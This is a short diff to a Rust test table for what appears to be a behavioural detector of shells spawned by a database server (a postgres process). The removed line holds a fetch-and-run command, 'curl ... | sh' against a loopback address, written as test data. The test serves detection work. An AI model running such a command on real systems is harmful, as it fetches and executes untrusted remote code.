@@ -338,7 +338,7 @@ fn exec_table() -> Vec<Case> {
             "postgres",
             104,
             104,
-            vec!["sh", "-c", "true; curl -s http://127.0.0.1:8/x | sh"],
+            vec!["sh", "-c", "true; uname -a"],
             vec!["behaviour-shell-from-database-server"],
         ),
         case(
